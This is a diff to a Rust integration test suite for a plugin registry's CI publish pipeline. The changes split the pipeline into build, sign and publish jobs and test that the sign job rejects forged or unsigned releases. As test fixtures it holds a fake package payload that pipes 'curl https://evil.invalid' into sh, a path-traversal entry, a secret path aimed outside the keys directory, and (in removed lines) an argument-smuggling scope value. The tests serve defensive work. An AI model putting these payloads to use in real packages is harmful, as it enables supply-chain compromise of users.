@@ -187,7 +187,7 @@ impl Store {
 
     /// A fresh runner directory checked out as actions/checkout@v4 does for `sha`
     /// (`sparse`: only these paths, as `sparse-checkout:` does).
-    fn runner(&self, name: &str, sha: &str, sparse: Option<&str>) -> Runner {
+    fn runner(&self, name: &str, sha: &str, sparse: Option<&[&str]>) -> Runner {
         static RUNS: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
         let run = RUNS.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
         let dir = self.tmp.path().join(format!("runner-{run}-{name}-{}", &sha[..8]));
@@ -199,7 +199,9 @@ impl Store {
         git(&work, &["remote", "add", "origin", self.origin.to_str().unwrap()]);
         if let Some(paths) = sparse {
             // actions/checkout with `sparse-checkout-cone-mode: false`.
-            git(&work, &["sparse-checkout", "set", "--no-cone", paths]);
+            let mut args = vec!["sparse-checkout", "set", "--no-cone"];
+            args.extend_from_slice(paths);
+            git(&work, &args);
         }
         git(
             &work,
@@ -232,8 +234,10 @@ impl Store {
     }
 
     /// The publish workflow for a push of `sha` (before: the branch's previous commit):
-    /// the build job, then the sign job with the artifact. Returns the sign job's output
-    /// and both summaries.
+    /// the build job, the sign job with the `unsigned` artifact, the publish job with
+    /// the `signed` and `blobs` artifacts, each in a fresh runner. Returns the output of
+    /// the job that failed or of the last one (with every job's output in it) and the
+    /// summaries.
     fn publish(&self, event: &str, before: &str, sha: &str) -> (Output, String) {
         let build = self.runner("build", sha, None);
         let out = build.script(
@@ -241,16 +245,39 @@ impl Store {
             &[build.temp.to_str().unwrap()],
             &[("GITHUB_EVENT_NAME", event), ("GITHUB_EVENT_BEFORE", before)],
         );
-        assert!(out.status.success(), "build job failed: {}", text(&out));
-        let build_log = text(&out);
-        let sign = self.runner("sign", sha, Some("scripts/"));
-        assert!(!sign.work.join("trellis-registry.json").exists(), "the sign job checks out scripts/ only");
-        let inputs = build.temp.join("inputs.tar");
+        let mut log = text(&out);
+        let summary =
+            |jobs: &[&Runner], log: &str| format!("{}{log}", jobs.iter().map(|j| j.summary()).collect::<String>());
+        if !out.status.success() {
+            return (with_log(out, &log), summary(&[&build], &log));
+        }
+        let sign = self.sign_job(sha);
+        let out = self.sign_with(&sign, &build.temp.join("unsigned.tar"));
+        log.push_str(&text(&out));
+        if !out.status.success() {
+            return (with_log(out, &log), summary(&[&build, &sign], &log));
+        }
+        let publish = self.runner("publish", sha, Some(&["scripts/", "root/"]));
+        let signed = sign.temp.join("signed.tar");
+        let blobs = build.temp.join("blobs.tar");
+        let out = publish.script("publish.sh", &[signed.to_str().unwrap(), blobs.to_str().unwrap()], &[]);
+        log.push_str(&text(&out));
+        (with_log(out, &log), summary(&[&build, &sign, &publish], &log))
+    }
+
+    /// A runner checked out as the sign job is: everything but releases/ and plugins/.
+    fn sign_job(&self, sha: &str) -> Runner {
+        let sign = self.runner("sign", sha, Some(&["/*", "!/releases/", "!/plugins/"]));
+        assert!(sign.work.join("trellis-registry.json").exists());
+        assert!(!sign.work.join("releases").exists(), "the sign job never checks out packages");
+        sign
+    }
+
+    /// The sign job over `unsigned`, with the online keys as secrets.
+    fn sign_with(&self, sign: &Runner, unsigned: &Path) -> Output {
         let secrets = self.secrets();
         let env: Vec<(&str, &str)> = secrets.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
-        let out = sign.script("publish.sh", &[inputs.to_str().unwrap()], &env);
-        let summary = format!("{}{}{}", build.summary(), sign.summary(), build_log);
-        (out, summary)
+        sign.script("sign.sh", &[unsigned.to_str().unwrap(), sign.temp.to_str().unwrap()], &env)
     }
 
     fn publish_ok(&self, event: &str, before: &str, sha: &str) -> String {
@@ -297,6 +324,11 @@ impl Store {
         let out = self.publish_offline();
         assert!(out.status.success(), "bootstrap failed: {}", text(&out));
     }
+}
+
+/// `out` with `log` (every job's output so far) as its stderr.
+fn with_log(out: Output, log: &str) -> Output {
+    Output { status: out.status, stdout: Vec::new(), stderr: log.as_bytes().to_vec() }
 }
 
 struct Runner {
@@ -523,6 +555,8 @@ fn publish_refuses_to_write_a_secret_outside_keys_and_never_publishes_a_key() {
     let mut config: serde_json::Value = serde_json::from_slice(&std::fs::read(&config_path).unwrap()).unwrap();
     config["keys"]["snapshot"]["keys"] = serde_json::json!(["../site/metadata/leak.key"]);
     std::fs::write(&config_path, serde_json::to_vec_pretty(&config).unwrap()).unwrap();
+    // With something to sign (a config change alone changes no role: nothing is signed).
+    store.add_release("acme.clock-1.0.0", "acme");
     let second = store.commit("hostile config");
     store.push();
     let (out, _) = store.publish("push", &first, &second);
@@ -826,17 +860,20 @@ fn the_signing_job_refuses_hostile_inputs() {
     let build = store.runner("build-hostile", &second, None);
     let out = build.script("prepare.sh", &[build.temp.to_str().unwrap()], &[("GITHUB_EVENT_BEFORE", &first)]);
     assert!(out.status.success(), "{}", text(&out));
+    let listing = run({
+        let mut cmd = command("tar", &build.temp);
+        cmd.args(["-tf", "unsigned.tar"]);
+        cmd
+    });
+    assert!(listing.contains("metadata/") && listing.contains(".dsse"), "{listing}");
+    assert!(!listing.contains(".zip"), "the sign job never receives a package: {listing}");
     let unpacked = build.temp.join("unpacked");
     std::fs::create_dir_all(&unpacked).unwrap();
-    let tar = |args: &[&str]| {
+    run({
         let mut cmd = command("tar", &unpacked);
-        cmd.args(args);
-        run(cmd)
-    };
-    tar(&["-xf", build.temp.join("inputs.tar").to_str().unwrap()]);
-    let secrets = store.secrets();
-    let env: Vec<(&str, &str)> = secrets.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
-    let sign = store.runner("sign-hostile", &second, Some("scripts/"));
+        cmd.args(["-xf", build.temp.join("unsigned.tar").to_str().unwrap()]);
+        cmd
+    });
     let attempt = |name: &str, edit: &dyn Fn(&Path)| {
         let dir = build.temp.join(name);
         run({
@@ -847,22 +884,81 @@ fn the_signing_job_refuses_hostile_inputs() {
         edit(&dir);
         let hostile = build.temp.join(format!("{name}.tar"));
         let mut cmd = command("tar", &dir);
-        cmd.args(["-cf", hostile.to_str().unwrap(), "registry", "scope", "sha"]);
+        cmd.args(["-cf", hostile.to_str().unwrap(), "metadata", "targets"]);
         run(cmd);
-        sign.script("publish.sh", &[hostile.to_str().unwrap()], &env)
+        let sign = store.sign_job(&second);
+        (store.sign_with(&sign, &hostile), sign)
     };
-    // A scope line that is not a plugin id (it would become build arguments).
-    let out = attempt("scope", &|dir| std::fs::write(dir.join("scope"), "acme.clock --out /tmp/elsewhere\n").unwrap());
-    assert!(!out.status.success() && text(&out).contains("is not a plugin id"), "{}", text(&out));
-    // Keys that came with the inputs are never signed with.
-    let out = attempt("keys", &|dir| {
-        std::fs::create_dir_all(dir.join("registry/keys")).unwrap();
-        std::fs::copy(store.operator.join("keys/targets.key"), dir.join("registry/keys/targets.key")).unwrap();
+    // A package signed by a key acme's record does not list, slipped into the index doc.
+    let stranger = trellis_index::fixture::key(9);
+    let (out, sign) = attempt("foreign", &|dir| forge_release(dir, "acme.clock", &[&stranger]));
+    assert!(!out.status.success(), "{}", text(&out));
+    assert!(text(&out).contains("acme.clock 1.0.0 is not signed by its developer"), "{}", text(&out));
+    assert!(!sign.temp.join("signed.tar").exists() && !sign.work.join("keys").exists());
+    // The same without any signature.
+    let (out, _) = attempt("unsigned", &|dir| forge_release(dir, "acme.clock", &[]));
+    assert!(text(&out).contains("acme.clock 1.0.0 is not signed by its developer"), "{}", text(&out));
+    // A path outside metadata/ and targets/ is refused before anything is extracted.
+    let (out, _) = attempt("path", &|dir| {
+        std::fs::write(dir.join("metadata/..evil"), "x").unwrap();
     });
-    assert!(!out.status.success() && text(&out).contains("carries a keys/ directory"), "{}", text(&out));
+    assert!(!out.status.success(), "{}", text(&out));
     assert_eq!(store.site_commits(), commits, "nothing pushed");
-    // The untouched inputs publish.
-    let out = attempt("clean", &|_| {});
+    // The untouched payloads are signed and published.
+    let (out, sign) = attempt("clean", &|_| {});
+    assert!(out.status.success(), "{}", text(&out));
+    let publish = store.runner("publish-clean", &second, Some(&["scripts/", "root/"]));
+    let signed = sign.temp.join("signed.tar");
+    let blobs = build.temp.join("blobs.tar");
+    let out = publish.script("publish.sh", &[signed.to_str().unwrap(), blobs.to_str().unwrap()], &[]);
     assert!(out.status.success(), "{}", text(&out));
     assert!(store.published().contains("acme.clock 1.0.0"));
+}
+
+/// What a compromised build job does: repacks `id`'s newest release with other content,
+/// signed by `keys`, and points the prepared index doc (and its bin payload) at it.
+fn forge_release(prepared: &Path, id: &str, keys: &[&trellis_schema::SigningKey]) {
+    use trellis_index::fixture::{ReleaseSpec, sign_manifest};
+    use trellis_schema::index::{BlobRef, IndexDoc};
+    use trellis_schema::{PluginId, Sha256, canonical};
+    let id: PluginId = id.parse().unwrap();
+    let target = trellis_index::site::index_target(&id);
+    let payload_path = std::fs::read_dir(prepared.join("metadata"))
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .find(|p| {
+            let doc: serde_json::Value = serde_json::from_slice(&std::fs::read(p).unwrap()).unwrap();
+            doc["signed"]["targets"].get(&target).is_some()
+        })
+        .unwrap();
+    let mut payload: serde_json::Value = serde_json::from_slice(&std::fs::read(&payload_path).unwrap()).unwrap();
+    let entry = &mut payload["signed"]["targets"][&target];
+    let sha: Sha256 = entry["hashes"]["sha256"].as_str().unwrap().parse().unwrap();
+    let doc_path = trellis_index::site::target_file(prepared, &target, &sha);
+    let mut doc: IndexDoc = serde_json::from_slice(&std::fs::read(&doc_path).unwrap()).unwrap();
+    std::fs::remove_file(&doc_path).unwrap();
+    let release = doc.releases.last_mut().unwrap();
+    let mut spec = ReleaseSpec::new(id.as_str(), &release.version.to_string());
+    spec.payload = b"#!/bin/sh\ncurl https://evil.invalid | sh\n".to_vec();
+    let scratch = tempfile::tempdir().unwrap();
+    let (package, manifest) = spec.pack(&scratch.path().join("p.zip")).unwrap();
+    let envelope = sign_manifest(&manifest, keys);
+    for (bytes, path, blob) in [
+        (&package, trellis_index::site::package_target(&id, &release.version), &mut release.package),
+        (&envelope, trellis_index::site::envelope_target(&id, &release.version), &mut release.envelope),
+    ] {
+        let sha = Sha256::of(bytes);
+        let file = trellis_index::site::target_file(prepared, &path, &sha);
+        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+        std::fs::write(&file, bytes).unwrap();
+        *blob = BlobRef { path, sha256: sha, length: bytes.len() as u64 };
+    }
+    let dsse: trellis_schema::dsse::Envelope = serde_json::from_slice(&envelope).unwrap();
+    release.manifest_sha256 = Sha256::of(&dsse.payload_bytes().unwrap());
+    let bytes = canonical::to_vec_of(&doc).unwrap();
+    let sha = Sha256::of(&bytes);
+    std::fs::write(trellis_index::site::target_file(prepared, &target, &sha), &bytes).unwrap();
+    entry["length"] = serde_json::json!(bytes.len());
+    entry["hashes"]["sha256"] = serde_json::json!(sha.to_hex());
+    std::fs::write(&payload_path, canonical::to_vec_of(&payload).unwrap()).unwrap();
 }
